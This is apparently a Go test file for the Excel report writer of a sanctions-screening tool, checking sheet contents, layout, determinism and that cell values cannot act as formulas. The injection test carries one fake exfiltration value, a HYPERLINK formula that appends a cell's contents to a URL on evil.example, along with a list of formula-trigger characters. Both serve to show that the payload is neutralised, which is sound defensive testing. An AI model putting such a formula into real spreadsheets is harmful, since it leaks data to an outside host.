package report

import (
	"archive/zip"
	"bytes"
	"io"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/screen-compliance/screen/record"
)

// readBook opens an xlsx produced by the writer.
func readBook(t *testing.T, b []byte) *excelize.File {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatalf("xlsx output does not open: %v", err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

// rows returns the rows of sheet, padded to width cells.
func rows(t *testing.T, f *excelize.File, sheet string, width int) [][]string {
	t.Helper()
	rs, err := f.GetRows(sheet)
	if err != nil {
		t.Fatalf("read sheet %s: %v", sheet, err)
	}
	for i := range rs {
		for len(rs[i]) < width {
			rs[i] = append(rs[i], "")
		}
	}
	return rs
}

func TestXLSXRoundTrip(t *testing.T) {
	ds := loadDecisions(t)
	f := readBook(t, render(t, FormatXLSX, ds, Options{}))

	if got := f.GetSheetList(); strings.Join(got, ",") != "Results,Matches,Run" {
		t.Errorf("sheets = %v", got)
	}

	// Results: header, then one row per record (clear ones included) with
	// the csv cells, neutralised.
	res := rows(t, f, SheetResults, len(csvHeader))
	if len(res) != len(ds)+1 {
		t.Fatalf("Results has %d rows, want header + %d", len(res), len(ds))
	}
	if strings.Join(res[0], ",") != strings.Join(csvHeader, ",") {
		t.Errorf("Results header = %v", res[0])
	}
	for i := range ds {
		want := resultRow(&ds[i])
		for j := range want {
			want[j] = xlsxText(want[j])
		}
		for j := range want {
			if res[i+1][j] != want[j] {
				t.Errorf("Results row %d %s = %q, want %q", i+2, csvHeader[j], res[i+1][j], want[j])
			}
		}
	}
	// Typed cells: row number and score are numbers.
	for _, ref := range []string{"C2", "I3", "J3"} {
		typ, err := f.GetCellType(SheetResults, ref)
		if err != nil {
			t.Fatal(err)
		}
		if typ == excelize.CellTypeInlineString || typ == excelize.CellTypeSharedString {
			t.Errorf("Results %s is a string, want a number", ref)
		}
	}

	// Matches: one row per record and match.
	var want [][]string
	for _, d := range ds {
		for _, m := range d.Matches {
			want = append(want, []string{
				xlsxText(d.ID), xlsxText(d.Source), strconv.Itoa(d.Row), d.Decision, m.Role, xlsxText(m.Query),
				m.EntityID, m.List, m.Kind, xlsxText(m.Name), xlsxText(m.MatchedName),
				strconv.FormatFloat(m.Score, 'f', -1, 64), strings.Join(m.Programs, ";"), m.Explanation,
			})
		}
	}
	mat := rows(t, f, SheetMatches, len(matchesHeader))
	if len(mat) != len(want)+1 {
		t.Fatalf("Matches has %d rows, want header + %d", len(mat), len(want))
	}
	for i, w := range want {
		if strings.Join(mat[i+1], "\x00") != strings.Join(w, "\x00") {
			t.Errorf("Matches row %d = %q, want %q", i+2, mat[i+1], w)
		}
	}

	// Run: versions, policy hash, flags, inputs.
	run := rows(t, f, SheetRun, 3)
	got := map[string][]string{}
	for _, r := range run[1:] {
		got[r[0]] = append(got[r[0]], r[1])
	}
	info := fixedInfo()
	checks := map[string]string{
		"tool": info.Tool, "policy_sha256": info.PolicySHA256, "run_id": info.RunID,
		"created_at": "2026-11-23T12:00:00Z", "list un": "2026-11-01", "list ofac": "2026-11-20",
		"input": "shipments.csv,'-", "flag": "'--fail-on=block,'--format=json", "records": "5", "block": "1",
	}
	for k, v := range checks {
		if strings.Join(got[k], ",") != v {
			t.Errorf("Run %s = %q, want %q", k, got[k], v)
		}
	}
}

// TestXLSXInjection checks that no cell holds a formula or starts with a
// formula character.
func TestXLSXInjection(t *testing.T) {
	ds := loadDecisions(t)
	f := readBook(t, render(t, FormatXLSX, ds, Options{ShowSuppressed: true}))
	for _, sheet := range f.GetSheetList() {
		rs, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for i, r := range rs {
			for j, c := range r {
				ref, _ := excelize.CoordinatesToCellName(j+1, i+1)
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
					t.Errorf("%s!%s = %q starts with a formula character", sheet, ref, c)
				}
				if fm, _ := f.GetCellFormula(sheet, ref); fm != "" {
					t.Errorf("%s!%s holds formula %q", sheet, ref, fm)
				}
			}
		}
	}
	if v, _ := f.GetCellValue(SheetResults, "A6"); v != `'=HYPERLINK("http://evil.example/?"&A1,"click")` {
		t.Errorf("injection id = %q", v)
	}
}

// TestXLSXLayout checks the frozen header rows and autofilters.
func TestXLSXLayout(t *testing.T) {
	ds := loadDecisions(t)
	b := render(t, FormatXLSX, ds, Options{})
	f := readBook(t, b)
	for _, sheet := range []string{SheetResults, SheetMatches, SheetRun} {
		p, err := f.GetPanes(sheet)
		if err != nil {
			t.Fatal(err)
		}
		if !p.Freeze || p.YSplit != 1 {
			t.Errorf("%s panes = %+v, want the header row frozen", sheet, p)
		}
		style, err := f.GetCellStyle(sheet, "A1")
		if err != nil || style == 0 {
			t.Errorf("%s header has no style (%d, %v)", sheet, style, err)
		}
	}
	// The autofilters live in the sheet XML.
	z, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	filters := map[string]string{"xl/tables/table1.xml": `<autoFilter ref="A1:O6"`, "xl/tables/table2.xml": `<autoFilter ref="A1:N5"`}
	for _, zf := range z.File {
		want, ok := filters[zf.Name]
		if !ok {
			continue
		}
		rc, err := zf.Open()
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(rc)
		rc.Close()
		if !bytes.Contains(body, []byte(want)) {
			t.Errorf("%s lacks %s", zf.Name, want)
		}
		delete(filters, zf.Name)
	}
	if len(filters) > 0 {
		t.Errorf("sheets not found: %v", filters)
	}
}

func TestXLSXEmpty(t *testing.T) {
	f := readBook(t, render(t, FormatXLSX, nil, Options{}))
	res := rows(t, f, SheetResults, len(csvHeader))
	if len(res) != 1 {
		t.Errorf("empty run: Results has %d rows, want the header only", len(res))
	}
}

func TestXLSXDeterministic(t *testing.T) {
	ds := loadDecisions(t)
	a := unzipAll(t, render(t, FormatXLSX, ds, Options{}))
	b := unzipAll(t, render(t, FormatXLSX, ds, Options{}))
	if len(a) != len(b) {
		t.Fatalf("xlsx parts differ: %d vs %d", len(a), len(b))
	}
	// excelize writes the zip entries in map order; their contents must
	// still be identical.
	for name, body := range a {
		if !bytes.Equal(body, b[name]) {
			t.Errorf("xlsx part %s differs between two identical runs", name)
		}
	}
}

// unzipAll returns the parts of a zip file by name.
func unzipAll(t *testing.T, b []byte) map[string][]byte {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	out := map[string][]byte{}
	for _, zf := range z.File {
		rc, err := zf.Open()
		if err != nil {
			t.Fatal(err)
		}
		body, err := io.ReadAll(rc)
		rc.Close()
		if err != nil {
			t.Fatal(err)
		}
		out[zf.Name] = body
	}
	return out
}

// TestXLSXEmptyMatchesTable checks that a run without matches still gets a
// valid table on the Matches sheet.
func TestXLSXEmptyMatchesTable(t *testing.T) {
	d := record.Decision{ID: "A", Row: 1, Decision: record.Clear}
	parts := unzipAll(t, render(t, FormatXLSX, []record.Decision{d}, Options{}))
	if !bytes.Contains(parts["xl/tables/table2.xml"], []byte(`ref="A1:N2"`)) {
		t.Errorf("Matches table = %s", parts["xl/tables/table2.xml"])
	}
}
